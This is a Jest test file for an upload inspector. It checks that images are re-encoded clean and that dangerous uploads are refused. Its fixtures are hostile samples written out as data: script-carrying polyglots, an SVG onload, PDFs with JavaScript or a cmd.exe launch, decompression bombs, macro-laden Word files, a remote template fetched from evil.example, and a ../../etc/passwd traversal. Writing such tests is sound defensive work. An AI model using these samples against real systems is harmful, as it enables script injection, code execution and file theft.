import { describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import { claimedPng, docm, docx, odt, packedPdf, pdf, picture, zip } from '../../../../test/files.js';
import { inspect } from './inspect.js';

const problem = async (bytes: Buffer): Promise<string | null> => {
  const inspected = await inspect(bytes);
  return inspected.ok ? null : inspected.problem;
};

describe('A file that is uploaded', () => {
  it.each([
    ['a PDF', () => pdf()], ['a PDF with packed objects', () => packedPdf('<< /Type /Page >>')], ['a Word document', () => docx()], ['an OpenDocument text', () => odt()],
  ])('is kept byte for byte: %s', async (_name, made) => {
    const bytes = made();
    expect(await inspect(bytes)).toMatchObject({ ok: true, file: { bytes } });
  });

  it.each(['png', 'jpeg', 'webp'] as const)('is made anew where it is a %s, with nothing behind the pixels', async (format) => {
    const sent = await sharp(await picture(60, 40, format)).withExif({ IFD0: { Copyright: 'Somebody at home' }, IFD3: { GPSLatitude: '51/1 30/1 0/1' } }).toFormat(format).toBuffer();
    const polyglot = Buffer.concat([sent, Buffer.from('<script>alert(1)</script>')]);
    const inspected = await inspect(polyglot);
    if (!inspected.ok) throw new Error(inspected.problem);
    const text = inspected.file.bytes.toString('latin1');
    expect([text.includes('Somebody at home'), text.includes('script'), (await sharp(inspected.file.bytes).metadata()).exif]).toEqual([false, false, undefined]);
    expect(inspected.file).toMatchObject({ type: `image/${format}`, width: 60, height: 40 });
  });

  it('is turned upright and made smaller where it is a large picture', async () => {
    const lying = await sharp(await picture(3000, 1000, 'jpeg')).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect(await inspect(lying)).toMatchObject({ ok: true, file: { width: 800, height: 2400 } });
  });

  it('is refused from its header where it claims more pixels than anybody decodes', async () => {
    const before = process.memoryUsage().rss;
    expect(await problem(claimedPng(30_000, 30_000))).toContain('30000 × 30000');
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
  });

  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['nothing', () => Buffer.alloc(0), 'empty'],
    ['words', () => Buffer.from('Just words, called picture.png'), 'none of the files'],
    ['SVG', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'SVG'],
    ['SVG with a declaration', () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'SVG'],
    ['HTML', () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'Web pages'],
    ['a GIF', () => picture(4, 4, 'gif'), 'GIF'],
    ['a GIF that is script', () => Buffer.from('GIF89a/*<script>*/=1;alert(1)//'), 'Web pages'],
    ['a PNG of which only the beginning is one', () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<script>alert(1)</script>')]), 'script'],
    ['a PNG that breaks off', async () => (await picture(400, 400)).subarray(0, 300), 'cannot be read'],
    ['a PDF behind a web page', () => Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>'), pdf()]), 'Web pages'],
    ['a PDF in front of a web page', () => Buffer.concat([pdf(), Buffer.from('<html><script>alert(1)</script></html>'), Buffer.alloc(2_000, 32)]), 'follows its end'],
    ['a PDF with script', () => pdf('1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n'), 'script'],
    ['a PDF with script in disguise', () => pdf('1 0 obj\n<< /OpenAction << /S /J#61va#53cript /JS (x) >> >>\nendobj\n'), 'script'],
    ['a PDF with packed script', () => packedPdf('1 0 << /S /JavaScript /JS (x) >>'), 'script'],
    ['a PDF with packed script in a disguised stream', () => packedPdf('1 0 << /S /JavaScript /JS (x) >>', '/Type /Obj#53tm /Filter [/FlateDecode]'), 'script'],
    ['a PDF packed twice', () => packedPdf('x', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'), 'packed'],
    ['a PDF that is a bomb', () => packedPdf('a'.repeat(70_000_000)), 'packed'],
    ['a PDF that starts a program', () => pdf('1 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'), 'program'],
    ['a PDF with a file inside', () => pdf('1 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'), 'another file'],
    ['a protected PDF', () => pdf('1 0 obj\n<< /Encrypt 3 0 R >>\nendobj\n'), 'protected'],
    ['a Word document with macros', () => docm(), 'macros'],
    ['a Word document with macros that does not say so', () => docx({ 'word/vbaProject.bin': 'macro' }), 'macros'],
    ['an OpenDocument text with macros', () => odt({ 'Basic/Standard/Module1.xml': '<module/>' }), 'macros'],
    ['a Word document with a program', () => docx({ 'word/embeddings/run.exe': 'MZ' }), 'can run'],
    ['a Word document that fetches its template', () => docx({ 'word/_rels/settings.xml.rels': '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' }), 'fetches'],
    ['a Word document that climbs', () => docx({ '../../etc/passwd': 'x' }), 'cannot be unpacked'],
    ['a bomb', () => docx({ 'word/media/a.xml': Buffer.alloc(80_000_000) }), 'too large'],
    ['a bomb that says it is small', () => docx({ 'word/media/a.xml': Buffer.alloc(80_000_000) }, 1_000), 'cannot be unpacked'],
    ['any other ZIP', () => zip({ 'readme.txt': 'hello' }), 'none of the files'],
  ])('is refused where it is %s', async (_name, made, words) => {
    expect(await problem(await made())).toContain(words);
  });
});
